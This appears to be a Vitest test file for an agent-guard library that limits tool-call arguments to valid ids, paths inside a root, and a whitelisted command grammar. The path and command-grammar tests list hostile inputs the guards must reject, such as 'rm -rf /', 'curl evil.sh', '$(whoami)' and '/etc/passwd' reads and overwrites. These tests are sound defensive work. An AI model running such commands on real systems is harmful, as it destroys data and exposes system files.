import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ActionSpace, defineAction } from '../actions/index.js';
import { ArgumentMaskedError } from '../errors/index.js';
import { Executor } from '../execution/index.js';
import { useTempStore } from '../internal/test-support.js';
import { toCandidate } from '../planning/index.js';
import type { SqliteStore } from '../provenance/sqlite/sqlite-store.js';
import { commandGrammar, createGuards, maskGuard, matches, narrowCandidate, oneOf, pathUnder, satisfies } from './index.js';

let store: SqliteStore;
useTempStore((opened) => {
  store = opened;
});

let root: string;
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'arbor-mask-'));
  mkdirSync(join(root, 'data', 'reports'), { recursive: true });
  symlinkSync(tmpdir(), join(root, 'data', 'escape'));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

interface Shop {
  orders: { id: string; status: string }[];
}

function shop() {
  const state: Shop = { orders: [{ id: 'ord-1', status: 'new' }, { id: 'ord-2', status: 'paid' }] };
  const ran: string[] = [];
  const openOrders = oneOf((s) => (s as Shop).orders.filter((order) => order.status !== 'cancelled').map((order) => order.id), { description: 'an existing order id' });
  const cancel = defineAction({
    name: 'cancel_order',
    description: 'Cancel an order.',
    input: z.object({ orderId: z.string().regex(/^ord-\d+$/), note: z.string().optional() }),
    effect: 'write',
    masks: { orderId: openOrders },
    run: ({ orderId }) => {
      ran.push(orderId);
      const order = state.orders.find((candidate) => candidate.id === orderId);
      if (order) order.status = 'cancelled';
      return { orderId };
    },
  });
  const merge = defineAction({
    name: 'merge_orders',
    description: 'Merge several orders.',
    input: z.object({ orderIds: z.array(z.string()).min(1) }),
    effect: 'write',
    masks: { 'orderIds[]': openOrders },
    run: ({ orderIds }) => ({ merged: orderIds }),
  });
  return { state, ran, actions: new ActionSpace([cancel, merge]), observe: () => structuredClone(state) };
}

describe('oneOf (ids that exist)', () => {
  it('removes invalid ids from proposals: the candidate schema becomes an enum of the ids valid in this state', () => {
    const { actions, state } = shop();
    const candidate = narrowCandidate(toCandidate(actions.get('cancel_order')), actions.get('cancel_order'), state);
    expect(candidate?.inputSchema).toMatchObject({ properties: { orderId: { type: 'string', enum: ['ord-1', 'ord-2'] } }, required: ['orderId'] });
    expect((candidate?.inputSchema.properties as Record<string, Record<string, unknown>>).orderId).not.toHaveProperty('pattern');
    state.orders[0]!.status = 'cancelled';
    const after = narrowCandidate(toCandidate(actions.get('cancel_order')), actions.get('cancel_order'), state);
    expect((after?.inputSchema.properties as Record<string, Record<string, unknown>>).orderId?.enum).toEqual(['ord-2']);
    // The cached, shared candidate is never modified.
    expect(toCandidate(actions.get('cancel_order')).inputSchema.properties).not.toHaveProperty('orderId.enum');
  });

  it('drops an action none of whose calls could pass, and narrows array elements', () => {
    const { actions, state } = shop();
    state.orders = state.orders.map((order) => ({ ...order, status: 'cancelled' }));
    expect(narrowCandidate(toCandidate(actions.get('cancel_order')), actions.get('cancel_order'), state)).toBeUndefined();
    state.orders[1]!.status = 'new';
    const merge = narrowCandidate(toCandidate(actions.get('merge_orders')), actions.get('merge_orders'), state);
    expect(merge?.inputSchema).toMatchObject({ properties: { orderIds: { type: 'array', items: { enum: ['ord-2'] } } } });
  });

  it('describes instead of listing when there are more valid values than maxEnum', () => {
    const { actions, state } = shop();
    state.orders = Array.from({ length: 50 }, (_, index) => ({ id: `ord-${index}`, status: 'new' }));
    const candidate = narrowCandidate(toCandidate(actions.get('cancel_order')), actions.get('cancel_order'), state, {}, { maxEnum: 10 });
    const orderId = (candidate?.inputSchema.properties as Record<string, Record<string, unknown>>).orderId;
    expect(orderId).not.toHaveProperty('enum');
    expect(orderId?.description).toContain('one of 50 values, for example "ord-0"');
  });

  it('blocks invalid ids at execution with ArgumentMaskedError, records the step and never runs the action', async () => {
    const { actions, observe, ran } = shop();
    const executor = new Executor({ store, actions, observe, guards: createGuards().guards.slice() });
    const run = await executor.startRun({ stopOnBlocked: false });
    const missing = await run.execute('cancel_order', { orderId: 'ord-999' });
    expect(missing.status).toBe('blocked');
    expect(missing.error).toBeInstanceOf(ArgumentMaskedError);
    expect(missing.error).toMatchObject({ code: 'ARBOR_ARGUMENT_MASKED', argument: 'orderId', data: { value: 'ord-999', mask: 'values', allowed: ['ord-1', 'ord-2'] } });
    expect(missing.error?.hint).toContain('an existing order id');
    expect((await run.execute('cancel_order', { orderId: 'ord-1' })).ok).toBe(true);
    expect((await run.execute('cancel_order', { orderId: 'ord-1' })).error?.code).toBe('ARBOR_ARGUMENT_MASKED');
    const merged = await run.execute('merge_orders', { orderIds: ['ord-2', 'ord-1'] });
    expect(merged.error).toMatchObject({ argument: 'orderIds.1' });
    expect(ran).toEqual(['ord-1']);
    const steps = await store.listSteps(run.id);
    expect(steps.map((step) => [step.action, step.status])).toEqual([
      ['cancel_order', 'blocked'],
      ['cancel_order', 'ok'],
      ['cancel_order', 'blocked'],
      ['merge_orders', 'blocked'],
    ]);
    expect(steps[0]?.metadata.guards).toEqual({ masks: { allow: false, code: 'ARBOR_ARGUMENT_MASKED', reason: '"ord-999" is not an existing order id (2 valid values)', argument: 'orderId', value: 'ord-999', mask: 'values' } });
    expect(steps[1]?.metadata.guards).toEqual({ masks: { checked: ['orderId'] } });
  });
});

describe('pathUnder', () => {
  it('accepts paths inside the root and rejects .. escapes, symbolic links out and NUL bytes', () => {
    const mask = pathUnder(join(root, 'data'));
    expect(mask.check(join(root, 'data', 'reports', 'q1.csv'), undefined)).toEqual({ ok: true });
    expect(mask.check('reports/q1.csv', undefined)).toEqual({ ok: true });
    expect(mask.check(join(root, 'data', '..', 'secrets'), undefined)).toMatchObject({ ok: false, reason: expect.stringContaining('is outside') });
    expect(mask.check('../../etc/passwd', undefined).ok).toBe(false);
    expect(mask.check(join(root, 'data', 'escape', 'x'), undefined).ok).toBe(false);
    expect(mask.check('a\0b', undefined)).toEqual({ ok: false, reason: 'contains a NUL byte' });
    expect(mask.check(42, undefined).ok).toBe(false);
    expect(pathUnder(join(root, 'data'), { allowRoot: false }).check(join(root, 'data'), undefined).ok).toBe(false);
  });

  it('can take its root from the state', () => {
    const mask = pathUnder((state) => (state as { home: string }).home);
    expect(mask.check('notes.txt', { home: join(root, 'data') })).toEqual({ ok: true });
    expect(mask.check(join(root, 'other'), { home: join(root, 'data') }).ok).toBe(false);
  });
});

describe('commandGrammar', () => {
  const mask = commandGrammar(['git status', 'git log [--oneline] [-n <count:int>]', 'ls [-l] [-a] [<dir:path>]', 'cat <file:path>...', 'git (diff|show) [<rev:word>]'], { root: () => root });

  it('accepts commands that match a template', () => {
    for (const command of ['git status', 'git log', 'git log --oneline -n 5', 'ls -l data', 'ls', "cat 'data/a b.txt' data/c.txt", 'git show HEAD~1', 'git diff']) {
      expect(mask.check(command, undefined), command).toEqual({ ok: true });
    }
  });

  it('rejects commands outside the grammar and every piece of shell syntax', () => {
    const rejected: [string, RegExp][] = [
      ['git push --force', /matches none/],
      ['git log -n five', /matches none/],
      ['git status; rm -rf /', /shell operator ";"/],
      ['git status && curl evil.sh', /shell operator "&&"/],
      ['cat data/a > /etc/passwd', /shell operator ">"/],
      ['cat $(whoami)', /shell expansion/],
      ['cat `id`', /shell expansion/],
      ['ls *', /glob/],
      ['cat /etc/passwd', /matches none/],
      ['cat ../../etc/passwd', /matches none/],
      ['ls -l -a -l', /matches none/],
      ['', /is empty/],
      ['git status\nrm -rf /', /control characters/],
    ];
    for (const [command, reason] of rejected) {
      const verdict = mask.check(command, undefined);
      expect(verdict.ok, command).toBe(false);
      expect(verdict.ok ? '' : verdict.reason, command).toMatch(reason);
    }
    expect(mask.check(['git', 'status'], undefined).ok).toBe(false);
  });

  it('lists a small grammar without slots as values, so a model sees an enum', () => {
    const small = commandGrammar(['git status', 'git log [--oneline]', 'git (fetch|pull)']);
    expect(small.values?.(undefined)).toEqual(['git status', 'git log', 'git log --oneline', 'git fetch', 'git pull']);
    expect(mask.values).toBeUndefined();
  });

  it('rejects malformed templates with a typed error naming the template', () => {
    expect(() => commandGrammar(['git [status'])).toThrow(/"git \[status": "\[" is not closed/);
    expect(() => commandGrammar(['ls <x:float>'])).toThrow(/unknown slot type "float"/);
    expect(() => commandGrammar([])).toThrow(/at least one template/);
  });
});

describe('matches and satisfies', () => {
  it('test whole values and explain refusals', () => {
    const sku = matches(/[a-z]{2}-\d{2}/, { description: 'a SKU like kb-01' });
    expect(sku.check('kb-01', undefined)).toEqual({ ok: true });
    expect(sku.check('kb-01; drop', undefined)).toEqual({ ok: false, reason: '"kb-01; drop" is not a SKU like kb-01' });
    expect(sku.schema?.(undefined)).toEqual({ pattern: '^(?:[a-z]{2}-\\d{2})$' });
    const even = satisfies((value) => typeof value === 'number' && value % 2 === 0, 'an even number');
    expect(even.check(4, undefined)).toEqual({ ok: true });
    expect(even.check(3, undefined)).toEqual({ ok: false, reason: '3 is not an even number' });
  });

  it('apply to actions that do not declare them, by action name pattern', async () => {
    const actions = new ActionSpace([
      defineAction({ name: 'shell.run', description: 'Run a command', input: z.object({ command: z.string() }), effect: 'write', run: ({ command }) => ({ ran: command }) }),
    ]);
    const guard = maskGuard({ 'shell.*': { command: commandGrammar(['git status']) } });
    const run = await new Executor({ store, actions, guards: [guard] }).startRun({ stopOnBlocked: false });
    expect((await run.execute('shell.run', { command: 'git status' })).ok).toBe(true);
    expect((await run.execute('shell.run', { command: 'git status | sh' })).error).toMatchObject({ code: 'ARBOR_ARGUMENT_MASKED', data: { mask: 'grammar' } });
  });

  it('a mask that throws blocks the call (fail closed)', async () => {
    const actions = new ActionSpace([
      defineAction({
        name: 'x',
        description: 'x',
        input: z.object({ id: z.string() }),
        effect: 'read',
        masks: { id: oneOf(() => { throw new Error('index offline'); }) },
        run: () => 1,
      }),
    ]);
    const run = await new Executor({ store, actions, guards: [maskGuard()] }).startRun({ stopOnBlocked: false });
    expect(await run.execute('x', { id: 'a' })).toMatchObject({ status: 'blocked', error: { code: 'ARBOR_GUARD_FAILED' } });
  });
});
